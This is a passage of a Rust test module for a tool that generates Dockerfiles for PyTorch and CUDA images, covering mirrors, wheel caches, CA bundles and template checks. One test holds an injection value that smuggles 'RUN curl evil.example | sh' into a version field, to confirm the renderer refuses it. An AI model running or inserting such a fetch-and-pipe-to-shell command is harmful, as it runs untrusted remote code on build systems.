            Some("13.0.0"),
            "{text}"
        );
    }

    #[test]
    fn a_debian_base_uses_debian_mirrors_and_the_pypi_toolkit() {
        let images = render(
            "torch: [\"2.13\"]\ncuda: [\"13.0\"]\nos: [debian12]\ntorch_wheels: pypi\ndevel_toolkit: pypi\nbase_images:\n  runtime: {debian12: \"local/bookworm:{cuda}\"}\nmirrors:\n  debian: http://m.example.com/debian\n  debian_security: http://m.example.com/debian-security\n",
            None,
        );
        let runtime = &images["2.13.0-cuda13.0-cudnn9-runtime-debian12"];
        let text = &runtime["Dockerfile"];
        assert!(
            text.contains("FROM local/bookworm:13.0 AS system\n"),
            "{text}"
        );
        assert!(text.contains("deb\\.debian\\.org/debian-security/?([[:space:]]|$)#http://m.example.com/debian-security/"), "{text}");
        assert!(
            text.contains(
                "deb\\.debian\\.org/debian/?([[:space:]]|$)#http://m.example.com/debian/"
            ),
            "{text}"
        );
        assert!(
            !text.contains("nvidia\\.com"),
            "Debian bases have no NVIDIA repository: {text}"
        );
        assert!(text.contains("v == \"3.11\""), "{text}");
        let devel = &images["2.13.0-cuda13.0-cudnn9-devel-debian12"];
        let text = &devel["Dockerfile"];
        assert_eq!(devel[CUDA_STUB_SCRIPT], MAKE_CUDA_STUB);
        assert!(
            text.contains("COPY make-cuda-stub.sh /usr/local/lib/imagegen/make-cuda-stub.sh"),
            "{text}"
        );
        assert!(
            text.contains("ln -s \"$site/nvidia/cu13\" /usr/local/cuda"),
            "{text}"
        );
        assert!(text.contains("bash /usr/local/lib/imagegen/make-cuda-stub.sh /usr/local/cuda /usr/local/cuda/lib64/stubs"), "{text}");
        assert!(
            text.contains("cuda-toolkit[cccl,crt,cudart,culibos,nvcc,nvvm,profiler]==13.0.* ninja"),
            "{text}"
        );
        assert!(
            !text.contains("cuda-nvcc-13-0"),
            "nothing from NVIDIA's apt repository: {text}"
        );
        assert!(
            text.contains("LIBRARY_PATH=/usr/local/cuda/lib64/stubs:"),
            "{text}"
        );
        assert!(text.contains("CPATH=/usr/local/cuda/include:/opt/imagegen/nvidia/nccl/include:/opt/imagegen/nvidia/cudnn/include"), "{text}");
    }

    #[test]
    fn the_apt_toolkit_installs_stubs_and_puts_wheel_headers_on_the_include_path() {
        let images = render(
            "torch: [\"2.13\"]\ncuda: [\"12.6\", \"13.0\"]\nos: [ubuntu22.04]\n",
            None,
        );
        for (cuda, package) in [("12.6", "12-6"), ("13.0", "13-0")] {
            let devel = &images[&format!("2.13.0-cuda{cuda}-cudnn9-devel-ubuntu22.04")];
            let text = &devel["Dockerfile"];
            for wanted in [
                format!("cuda-driver-dev-{package}"),
                format!("cuda-nvcc-{package}"),
                format!("cuda-cudart-dev-{package}"),
                "LIBRARY_PATH=/usr/local/cuda/lib64/stubs:/usr/local/cuda/lib64:/opt/imagegen/nvidia/nccl/lib:/opt/imagegen/nvidia/cudnn/lib".into(),
                "CPATH=/usr/local/cuda/include:/opt/imagegen/nvidia/nccl/include:/opt/imagegen/nvidia/cudnn/include".into(),
                "test -e /usr/local/cuda/lib64/stubs/libcuda.so".into(),
                "-r /opt/imagegen/requirements.lock".into(),
            ] {
                assert!(text.contains(&wanted), "{wanted}: {text}");
            }
            assert!(!devel.contains_key(CUDA_STUB_SCRIPT));
            assert!(!text.contains("make-cuda-stub"), "{text}");
        }
    }

    /// The variables that point clients with a CA list of their own at the system bundle.
    const CA_VARIABLES: [&str; 6] = [
        "SSL_CERT_FILE",
        "REQUESTS_CA_BUNDLE",
        "CURL_CA_BUNDLE",
        "PIP_CERT",
        "NODE_EXTRA_CA_CERTS",
        "AWS_CA_BUNDLE",
    ];

    #[test]
    fn with_the_wheel_cache_a_stage_installs_the_lock_from_the_context_and_the_image_copies_the_venv(
    ) {
        let images = render(
            "torch: [\"2.13\"]\ncuda: [\"13.0\"]\nos: [ubuntu24.04]\ntorch_wheels: pypi\ndevel_toolkit: pypi\n",
            None,
        );
        let mut checked = 0;
        for (name, files) in &images {
            let text = &files["Dockerfile"];
            let stages: Vec<&str> = text
                .lines()
                .filter(|line| line.starts_with("FROM "))
                .collect();
            assert_eq!(stages.len(), 3, "{name}: {text}");
            assert!(stages[0].ends_with(" AS system"), "{name}: {text}");
            assert_eq!(
                stages[1..],
                ["FROM system AS venv", "FROM system"],
                "{name}"
            );
            let venv_stage = &text
                [text.find("FROM system AS venv").unwrap()..text.find("FROM system\n").unwrap()];
            assert!(
                venv_stage.contains("COPY wheels/ /opt/imagegen/wheels/"),
                "{name}: {text}"
            );
            assert!(venv_stage.contains(
                "pip install --no-cache-dir --no-index --find-links /opt/imagegen/wheels --no-deps --require-hashes --only-binary=:all: \\\n      -r /opt/imagegen/requirements.lock \\\n && pip check"
            ), "{name}: {text}");
            let image_stage = &text[text.find("FROM system\n").unwrap()..];
            assert!(
                !image_stage.contains("wheels/"),
                "no wheel in a layer of the image: {text}"
            );
            let copy = if name.contains("-runtime-") {
                "COPY --from=venv /opt/venv /opt/venv"
            } else {
                "COPY --from=venv /opt/imagegen/venv-added/ /opt/venv/"
            };
            assert!(image_stage.contains(copy), "{name}: {text}");
            assert!(!text.contains("--index-url"), "{name}: {text}");
            checked += 1;
        }
        assert_eq!(checked, 2);
    }

    #[test]
    fn with_the_venv_made_on_the_host_the_ensurepip_packages_the_lock_pins_are_named_in_the_build()
    {
        let (mut images, matrix) = specs(
            "torch: [\"2.13\"]\ncuda: [\"13.0\"]\nos: [ubuntu24.04]\ntorch_wheels: pypi\ndevel_toolkit: pypi\nwheels: host\n",
        );
        for image in &mut images {
            image.ensurepip_pinned = vec!["pip".into(), "setuptools".into()];
        }
        let rendered = render_all(&images, &matrix, &Templates::embedded(), None).unwrap();
        let runtime = rendered
            .iter()
            .find(|image| image.name.contains("-runtime-"))
            .unwrap();
        let text = &runtime.files["Dockerfile"];
        assert!(
            text.contains(" && python3 -m venv /opt/venv \\\n && /opt/venv/bin/pip uninstall --yes --quiet pip setuptools\n"),
            "{text}"
        );
        assert!(
            text.contains("# (pip, setuptools: pip uninstalls them"),
            "{text}"
        );
        assert_eq!(
            crate::resolve::lock::locked_ensurepip(
                "Setuptools==80.9.0 \\\n    --hash=sha256:062d34222ad13e0cc312a4c02d73f059e86a4acbfbdea8f8f76b28c99f306922\ntorch==2.13.0 \\\n    --hash=sha256:062d34222ad13e0cc312a4c02d73f059e86a4acbfbdea8f8f76b28c99f306922\npip==25.3 \\\n    --hash=sha256:062d34222ad13e0cc312a4c02d73f059e86a4acbfbdea8f8f76b28c99f306922\n"
            ),
            Ok(vec!["pip".to_string(), "setuptools".to_string()])
        );
    }

    #[test]
    fn with_the_venv_made_on_the_host_the_runtime_build_installs_no_package_and_gets_its_script() {
        let images = render(
            "torch: [\"2.13\"]\ncuda: [\"13.0\"]\nos: [ubuntu24.04]\ntorch_wheels: pypi\ndevel_toolkit: pypi\nwheels: host\n",
            None,
        );
        let mut runtimes = 0;
        for (name, files) in &images {
            let text = &files["Dockerfile"];
            if !name.contains("-runtime-") {
                // A devel image installs its few packages over the runtime's venv as with the
                // cache.
                assert!(text.contains("FROM system AS venv"), "{name}: {text}");
                assert!(!files.contains_key(HOST_VENV_SCRIPT), "{name}");
                continue;
            }
            runtimes += 1;
            let stages = text
                .lines()
                .filter(|line| line.starts_with("FROM "))
                .count();
            assert_eq!(stages, 1, "{name}: {text}");
            assert!(!text.contains("--require-hashes"), "{name}: {text}");
            assert!(!text.contains("wheels/"), "{name}: {text}");
            assert!(
                !text.contains("ldconfig"),
                "the loader cache is host-venv.sh's: {text}"
            );
            // Nothing of the lock reaches the build (an upgrade of it changes none of the
            // build's layers): no ensurepip package is pinned here, so none is uninstalled.
            assert!(
                text.contains(" && python3 -m venv /opt/venv\n"),
                "{name}: {text}"
            );
            assert!(!text.contains("requirements.lock /opt"), "{name}: {text}");
            assert!(!text.contains("pip uninstall --yes"), "{name}: {text}");
            let script = &files[HOST_VENV_SCRIPT];
            assert!(script.starts_with("#!/bin/sh\n"), "{script}");
            // The loader cache step is the cache path's, word for word.
            let loader = EMBEDDED_TEMPLATES
                .iter()
                .find(|(template, _)| *template == "loader-cache.j2")
                .map(|(_, text)| *text)
                .unwrap();
            let step = loader.split_once("-#}\n").unwrap().1.trim_end();
            assert!(script.contains(step), "{script}");
            // The folders it lists are those `pipeline::wheel_install::helper_tar` sends to
            // host-venv.sh's container (`{site}/nvidia/*/lib/*`): a change of one is a change of
            // the other.
            assert!(
                step.contains(
                    r#"find "$site/nvidia" -mindepth 2 -maxdepth 2 -type d -name lib | sort"#
                ),
                "{step}"
            );
            insta::assert_snapshot!("host_venv_script", script);
        }
        assert_eq!(runtimes, 1);

        // The same matrix with the cache: the loader cache step in the Dockerfile, no script.
        let cached = render(
            "torch: [\"2.13\"]\ncuda: [\"13.0\"]\nos: [ubuntu24.04]\ntorch_wheels: pypi\n",
            None,
        );
        for (name, files) in &cached {
            assert!(!files.contains_key(HOST_VENV_SCRIPT), "{name}");
        }
    }

    #[test]
    fn with_the_venv_made_on_the_host_the_teams_steps_are_refused() {
        let (images, matrix) = specs(
            "torch: [\"2.13\"]\ncuda: [\"13.0\"]\nos: [ubuntu24.04]\ntorch_wheels: pypi\nvariants: [runtime]\nwheels: host\nsteps: steps/team.Dockerfile\n",
        );
        let error = render_all(&images, &matrix, &Templates::embedded(), None)
            .unwrap_err()
            .to_string();
        assert_eq!(
            error,
            format!(
                "image {}: wheels: host: its steps (steps/team.Dockerfile) run on the installed venv inside the Docker build, and with `wheels: host` the venv is made on the host after it; set `wheels: cache`, or drop `steps:`",
                images[0].name
            )
        );
    }

    #[test]
    fn a_ca_bundle_is_copied_and_installed_into_the_system_store() {
        let ca = CaBundle {
            path: "company-ca.pem".into(),
            text: CERTIFICATE.into(),
        };
        let images = render(
            "torch: [\"2.7\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\n",
            Some(&ca),
        );
        let mut runtimes_checked = 0;
        for (name, files) in &images {
            let text = &files["Dockerfile"];
            // With the host-side wheel cache pip reaches no index: the CA serves apt alone.
            assert!(!text.contains("--cert"), "{text}");
            assert_eq!(
                files.get(CA_BUNDLE_FILE).is_some(),
                name.contains("-runtime-")
            );
            if name.contains("-runtime-") {
                assert_eq!(files[CA_BUNDLE_FILE], CERTIFICATE);
                let copy = text
                    .find("COPY ca-bundle.crt /usr/local/share/ca-certificates/imagegen-ca-bundle.crt")
                    .expect(text);
                assert!(copy < text.find("apt-get update").unwrap());
                assert!(text.contains(
                    "{ ! command -v update-ca-certificates >/dev/null || update-ca-certificates; }"
                ));
                assert!(
                    text.contains(" && update-ca-certificates \\\n && rm -rf /var/lib/apt/lists/*")
                );
                // Clients with a CA list of their own read the system bundle, set once in the
                // runtime image (the devel image inherits its environment).
                let environment = text.find("ENV SSL_CERT_FILE=").expect(text);
                assert!(environment > text.find(" && update-ca-certificates \\").unwrap());
                for variable in CA_VARIABLES {
                    assert!(
                        text.contains(&format!("{variable}=/etc/ssl/certs/ca-certificates.crt")),
                        "{variable}: {text}"
                    );
                }
                runtimes_checked += 1;
            } else {
                assert!(!text.contains("SSL_CERT_FILE"), "{text}");
            }
        }
        // pip inside the build (wheels: index) reaches its index through the proxy's CA.
        let from_index = render(
            "torch: [\"2.7\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\nwheels: index\n",
            Some(&ca),
        );
        assert_eq!(from_index.len(), 2);
        for files in from_index.values() {
            assert!(
                files["Dockerfile"].contains("--cert /etc/ssl/certs/ca-certificates.crt"),
                "{}",
                files["Dockerfile"]
            );
        }
        // Without ca_bundle nothing changes: no variable, no copy, no --cert.
        let plain = render(
            "torch: [\"2.7\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\n",
            None,
        );
        assert_eq!(plain.len(), 2);
        for files in plain.values() {
            let text = &files["Dockerfile"];
            for variable in CA_VARIABLES {
                assert!(!text.contains(variable), "{variable}: {text}");
            }
            assert!(!text.contains("ca-certificates.crt"), "{text}");
        }
        assert_eq!(
            (images.len(), runtimes_checked),
            (2, 1),
            "a runtime and a devel image"
        );
        let (images, matrix) = specs("torch: [\"2.7\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\n");
        let key = CaBundle {
            path: "key.pem".into(),
            text: format!(
                "{CERTIFICATE}-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n"
            ),
        };
        let error = render_all(&images, &matrix, &Templates::embedded(), Some(&key))
            .unwrap_err()
            .to_string();
        assert!(error.starts_with("ca_bundle key.pem: line 4:"), "{error}");
    }

    #[test]
    fn ca_bundles_are_pem_certificates_only() {
        assert!(check_ca_bundle(CERTIFICATE).is_ok());
        assert!(check_ca_bundle(&format!("# our proxy\n\n{CERTIFICATE}{CERTIFICATE}")).is_ok());
        assert!(check_ca_bundle("")
            .unwrap_err()
            .contains("no `-----BEGIN CERTIFICATE-----`"));
        assert!(check_ca_bundle("-----BEGIN CERTIFICATE-----\nAAAA\n")
            .unwrap_err()
            .contains("no END line"));
        assert!(
            check_ca_bundle("-----BEGIN CERTIFICATE-----\nA\"AA\n-----END CERTIFICATE-----\n")
                .unwrap_err()
                .contains("not base64")
        );
    }

    #[test]
    fn the_embedded_templates_decide_that_images_are_locked() {
        assert!(Templates::embedded().embedded_for(Variant::Runtime));
        let mut overrides = BTreeMap::new();
        overrides.insert("runtime.Dockerfile.j2".to_string(), "FROM x\n".to_string());
        let templates = Templates::with_overrides(overrides);
        assert!(!templates.embedded_for(Variant::Runtime));
        assert!(templates.embedded_for(Variant::Devel));
    }

    #[test]
    fn a_template_typo_is_an_error_not_an_empty_string() {
        let (images, matrix) =
            specs("torch: [\"2.7\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\nvariants: [runtime]\n");
        let mut overrides = BTreeMap::new();
        overrides.insert(
            "runtime.Dockerfile.j2".to_string(),
            "FROM {{ image.base_imag }}\n".to_string(),
        );
        let error = render_all(
            &images,
            &matrix,
            &Templates::with_overrides(overrides),
            None,
        )
        .unwrap_err()
        .to_string();
        assert!(error.contains("undefined"), "{error}");
    }

    #[test]
    fn unsafe_values_in_hand_made_specs_are_refused() {
        let (mut images, matrix) =
            specs("torch: [\"2.7\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\nvariants: [runtime]\n");
        // A version field cannot even hold it: the type refuses the text ...
        let unsafe_text = "2.7.0\nRUN curl evil.example | sh";
        assert!(crate::model::axes::VersionText::parse(unsafe_text).is_err());
        assert!(crate::model::version::ComputeCapability::parse(unsafe_text).is_err());
        // ... and a field still kept as text (the tag) is refused at render.
        images[0].tag = unsafe_text.to_string();
        let error = render_all(&images, &matrix, &Templates::embedded(), None)
            .unwrap_err()
            .to_string();
        assert!(
            error.contains("refusing to render unsafe value for tag"),
            "{error}"
        );
    }

    #[test]
    fn template_digest_changes_with_text() {
        let mut overrides = BTreeMap::new();
        overrides.insert("labels.j2".to_string(), "LABEL a=b\n".to_string());
        assert_ne!(
            Templates::embedded().digest(),
            Templates::with_overrides(overrides).digest()
        );
        assert_eq!(
            Templates::embedded().digest(),
            Templates::embedded().digest()
        );
    }
}
